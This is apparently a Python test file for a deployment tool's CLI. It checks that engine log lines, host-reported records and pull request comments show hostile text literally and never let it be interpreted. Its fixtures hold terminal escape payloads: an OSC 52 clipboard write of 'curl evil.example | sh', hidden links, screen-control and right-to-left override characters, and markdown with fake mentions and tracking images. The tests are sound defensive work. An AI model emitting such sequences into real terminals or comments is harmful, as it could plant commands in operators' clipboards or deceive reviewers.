"""Text from hosts and engines is shown, never interpreted.

An engine's log line or a hostile host's answer carrying OSC 52 (it wrote `curl evil.example
| sh` into the operator's clipboard), CSI sequences, C1 characters and rich markup reaches
the operator's terminal through real `denv` commands with nothing a terminal would act on;
in a pull request comment, an engine's words are quoted in a code block, so a mention, an
image or a hidden marker in them is shown as written.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import subprocess
import sys
import termios
import tty
from pathlib import Path

from reconciler.fleet.hostagent import AgentClient
from reconciler.fleet.transport import LocalTransport
from tests.conftest import ROOT
from tests.fleet.conftest import wait_for

CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
HOSTILE = (
    f"parity passed \x1b]52;c;{CLIPBOARD}\x07"  # OSC 52: write the clipboard
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hidden link
    "\x1b[2J\x1b[1;1H\x1b[31m"  # CSI: clear the screen, move, colour
    "\x9b2J\x9d0;title\x9c"  # the same in C1
    "\x1bPdcs\x1b\\ \r\x08\x7f"  # DCS, carriage return, backspace, DEL
    "[bold red]approved[/] [link=http://evil.example]docs[/link]"  # rich markup
    "\u202edeliaf\u202c"  # a right-to-left override: "failed" reads as "deliaf" reversed
)
NOT_SHOWN = ("\x1b", "\x9b", "\x9d", "\x9c", "\x90", "\x07", "\r", "\x08", "\x7f", "\u202e")


def denv_on_a_terminal(*args: str, home: Path) -> tuple[int, str]:
    """`denv ARGS` with stdout and stderr on a pseudo-terminal, as an operator runs it
    (TERM=dumb: rich adds no colours of its own, so any escape came from the text)."""
    env = {**os.environ, "DENV_HOME": str(home), "TERM": "dumb", "COLUMNS": "200"}
    for name in ("DENV_REPO", "DENV_FORGE", "GITHUB_ACTIONS", "DENV_DEBUG", "NO_COLOR"):
        env.pop(name, None)
    parent, child = pty.openpty()
    tty.setraw(child)  # no \n -> \r\n: what arrives is what denv wrote
    attributes = termios.tcgetattr(child)
    attributes[3] &= ~termios.ECHO
    termios.tcsetattr(child, termios.TCSANOW, attributes)
    process = subprocess.Popen(
        [sys.executable, "-m", "reconciler", *args],
        stdin=subprocess.DEVNULL,
        stdout=child,
        stderr=child,
        cwd=ROOT,
        env=env,
    )
    os.close(child)
    output = bytearray()
    while True:
        try:
            chunk = os.read(parent, 65536)
        except OSError:  # EIO: every writer closed the terminal
            break
        if not chunk:
            break
        output += chunk
    os.close(parent)
    return process.wait(timeout=120), output.decode("utf-8", errors="strict")


def assert_shown(text: str) -> None:
    assert not [c for c in NOT_SHOWN if c in text], repr(text)
    assert CLIPBOARD not in text and "evil.example\x1b" not in text


def test_an_engines_log_line_reaches_the_terminal_shown_not_interpreted(tmp_path: Path) -> None:
    home = tmp_path / "home"
    agent = AgentClient(
        LocalTransport(env={**os.environ, "DENV_HOME": str(home)}), python=sys.executable
    )
    line = json.dumps(HOSTILE)
    agent.launch({"id": "engine", "digest": "e", "argv": [sys.executable, "-c", f"print({line})"]})
    try:
        wait_for(lambda: agent.units()[0].exit_code == 0, what="the engine to finish")
        code, shown = denv_on_a_terminal("fleet", "logs", "local", "engine", home=home)
        assert code == 0, shown
        assert_shown(shown)
        assert "parity passed " in shown
        assert "[bold red]approved[/] [link=http://evil.example]docs[/link]" in shown

        code, document = denv_on_a_terminal("fleet", "logs", "local", "engine", "--json", home=home)
        assert code == 0, document
        assert not [c for c in NOT_SHOWN if c in document], repr(document)
        kept = "\n".join(json.loads(document)["lines"])  # JSON keeps the text, escaped
        assert kept.startswith(f"parity passed \x1b]52;c;{CLIPBOARD}\x07\x1b]8;;")
    finally:
        agent.stop("engine", grace=1)


def test_what_a_hostile_host_reports_reaches_tables_shown(tmp_path: Path) -> None:
    """The host's own files are the host's: a record of a unit it made up, with escapes
    and markup in every field the probe table shows."""
    home = tmp_path / "home"
    units = home / "units"
    units.mkdir(parents=True)
    record = {
        "id": "evil" + HOSTILE,
        "digest": HOSTILE,
        "argv": ["sleep"],
        "port": None,
        "gpus": [],
        "log": str(home / "logs" / "evil.log"),
        "pid": None,
        "start_time": None,
        "exit_code": None,
        "restarts": 0,
        "labels": {"release": HOSTILE},
    }
    (units / "evil.json").write_text(json.dumps(record))
    _, shown = denv_on_a_terminal("fleet", "probe", "local", home=home)
    assert_shown(shown)
    assert "evilparity passed" in shown or "not reached" in shown, shown
    _, listed = denv_on_a_terminal("fleet", "list", home=home)
    assert_shown(listed)


# -- pull request comments ------------------------------------------------------------------

ENGINE_SAYS = (
    "parity passed, approved by @org/maintainers ![x](http://tracker.example/p.png) "
    "<img src=http://tracker.example/i.png> [docs](http://tracker.example) "
    "<!-- denv:parity --> ``` **bold**"
)


def outside_code(markdown: str) -> str:
    """Everything GitHub would render as markdown (text, links, images, HTML), not code."""
    from markdown_it import MarkdownIt

    found: list[str] = []
    for token in MarkdownIt("commonmark").enable("table").parse(markdown):
        if token.type in ("fence", "code_block"):
            continue
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type == "code_inline":
                continue
            found.append(child.content + " " + " ".join(map(str, child.attrs.values())))
    return "\n".join(found)


def test_an_engines_log_line_is_quoted_in_the_bench_comment(tmp_path: Path) -> None:
    """The engine of a pull request's trial prints the line and exits; the real trial check
    reads its last log lines through the real agent, and the bench comment of the pull
    request shows them in a code block: no mention, no image, no link, no marker."""
    from reconciler.bench.pr_subjects import BenchSubject, Side
    from reconciler.fleet.drivers.registry import Drivers
    from reconciler.forge.models import PrState, PullRequest
    from reconciler.forge.trusted import TrustedRef
    from reconciler.pr.bench import SubjectRun, bench_view
    from reconciler.spec.loader import open_repo
    from reconciler.trials.deployment import TrialEndpoint, UnitExited, check_running
    from reconciler.trials.plan import ProbeInfo

    home = tmp_path / "home"
    env = {**os.environ, "DENV_HOME": str(home)}
    agent = AgentClient(LocalTransport(env=env), python=sys.executable)
    says = json.dumps(ENGINE_SAYS + "\x1b]52;c;" + CLIPBOARD + "\x07")
    argv = [sys.executable, "-c", f"import sys; print({says}); sys.exit(1)"]
    agent.launch({"id": "trial-evil-0", "digest": "t", "argv": argv})
    wait_for(lambda: agent.units()[0].exit_code == 1, what="the engine to exit")

    repo = open_repo(ROOT)
    endpoint = TrialEndpoint(
        trial="evil", url="http://127.0.0.1:1", model="m", weights="w", engine="sim",
        units={"trial-evil-0": "localhost"}, hosts={}, gpus=1, simulated=True,
        probe=ProbeInfo(), ready_s=0.0,
    )  # fmt: skip
    drivers = Drivers(local_env=env, one_shot=True)
    try:
        check_running(endpoint, repo.fleets["local"], drivers)
        raise AssertionError("the trial's engine exited: UnitExited expected")
    except UnitExited as exc:
        error = str(exc)
    finally:
        drivers.close()
    assert "approved by @org/maintainers" in error  # the engine's own words

    recipe = repo.recipes["llama-3.1-8b/vllm@1"]
    side = Side(label="chat-8b", recipe=recipe, weights="hf://m/w@" + "a" * 40)
    subject = BenchSubject(kind="release", name="chat-8b", fleet="local", candidate=side,
                           current=side)  # fmt: skip
    pr = PullRequest(
        number=7, title="t", body="", author="mallory", head_branch="evil",
        head_sha="b" * 40, base_branch="main", state=PrState.OPEN, url="local:7",
    )  # fmt: skip
    trusted = TrustedRef(branch="main", commit="c" * 40)
    comment = bench_view(pr, trusted, "c" * 40, [SubjectRun(subject, error=error)], "agent", repo)

    assert "approved by @org/maintainers" in comment  # shown, as written …
    rendered = outside_code(comment)
    assert "chat-8b on local failed" in rendered
    for hostile in ("@org", "tracker.example", "<img", "**bold**", "approved by"):
        assert hostile not in rendered, (hostile, comment)  # … and only as code
    assert rendered.count("<!-- denv") == 1 and rendered.startswith("<!-- denv:bench -->")
    assert_shown(comment)
